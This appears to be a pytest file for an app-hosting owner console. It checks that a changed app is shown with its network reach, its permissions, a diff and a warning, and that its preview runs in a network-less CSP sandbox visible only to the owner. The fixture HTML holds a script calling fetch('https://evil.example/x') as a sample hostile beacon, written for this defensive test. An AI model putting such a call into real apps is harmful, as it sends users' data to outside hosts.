"""The pending tools page shows what the owner reviews of an app (issue 30, item 2): its declared
network reach, permissions, domain and warnings, a changed app as a diff, and the live app
rendered in a sandboxed frame, served by an owner-only route whose answer may reach no network
and is an opaque origin (CSP `sandbox allow-scripts`, `default-src 'none'`). A real host, the
real sandboxed `apps` test plugin (copied: the test changes its app), real HTTP."""

from __future__ import annotations

import html
import re
import shutil
from pathlib import Path

import pytest

from owner_console.guard import PREVIEW_CSP
from tests.apps.support import FIXTURE
from tests.hosting import RunningHost, host_settings, running_host
from tests.owner_console.test_http import _forget_cookies, _signed_in
from tests.owner_facade.test_door import call, owner_client
from tests.processes import needs_bwrap

pytestmark = [pytest.mark.anyio, needs_bwrap]

CHANGED = "<!doctype html><html><body><h1>Board</h1><script>fetch('https://evil.example/x')</script></body></html>\n"
FRAME = re.compile(r'<iframe class="app-preview" sandbox="allow-scripts" src="([^"]+)"')
REVIEW = re.compile(r'<section class="app-review" data-app="ui://board/app.html">(.*?)</section>', re.S)


async def _change_the_app(running: RunningHost, folder: Path) -> None:
    async with owner_client(running) as owner:
        failed, answer = await call(owner, "tools_approve", capability="test.apps")
    assert not failed, answer
    (folder / "board.html").write_text(CHANGED, encoding="utf-8")
    running.stop_children("test.apps")  # its next start serves the changed app
    async with running.client(await running.new_session()) as visitor:
        await visitor.list_tools()  # read again, now pending


async def test_the_tools_page_shows_an_apps_reach_its_diff_and_a_sandboxed_preview(
    tmp_path: Path, database_url: str
) -> None:
    folder = tmp_path / "apps"
    shutil.copytree(FIXTURE, folder, ignore=shutil.ignore_patterns("__pycache__", "board.html"))
    async with running_host(host_settings(tmp_path, database_url, [str(folder)], pin_tools=True)) as running:
        await _change_the_app(running, folder)
        await _forget_cookies(running)
        headers, _ = await _signed_in(running)
        tools = await running.http.get(f"{running.url}/owner/tools", headers=headers)
        page = tools.text
        previews = FRAME.findall(page)
        preview = await running.http.get(running.url + html.unescape(previews[0]), headers=headers)
        anonymous = await running.http.get(running.url + html.unescape(previews[0]))
        unknown = await running.http.get(f"{running.url}/owner/tools/app/test.apps/{'0' * 64}", headers=headers)

    sections = REVIEW.findall(page)
    assert len(sections) == 2  # show_board and move_piece name the app
    review = sections[0]
    connect = '<th scope="row">Sends and fetches data</th><td><code>https://api.example.com</code></td>'
    assert f'<tr data-reach="connect">{connect}</tr>' in review
    assert '<tr data-reach="frames"><th scope="row">Frames</th><td>nowhere</td></tr>' in review
    assert "<td>clipboardWrite</td>" in review and "<td>https://board.example.com</td>" in review
    assert '<p class="warning">the app changed since you approved it</p>' in review
    assert '<span class="added">+&lt;!doctype html&gt;&lt;html&gt;&lt;body&gt;&lt;h1&gt;Board&lt;/h1&gt;' in review
    assert '<span class="removed">-&lt;!doctype html&gt;' in review
    assert len(set(previews)) == 1 and previews[0].startswith("/owner/tools/app/test.apps/")
    assert preview.status_code == 200 and preview.text == CHANGED
    assert preview.headers["content-security-policy"] == PREVIEW_CSP
    assert PREVIEW_CSP.startswith("sandbox allow-scripts; default-src 'none';")
    assert "allow-same-origin" not in PREVIEW_CSP and "connect-src" not in PREVIEW_CSP
    assert preview.headers["x-frame-options"] == "SAMEORIGIN"
    assert (anonymous.status_code, anonymous.headers["location"]) == (303, "/owner/login")
    assert unknown.status_code == 404
    assert "frame-src 'self'" in tools.headers["content-security-policy"]  # the console frames only its own
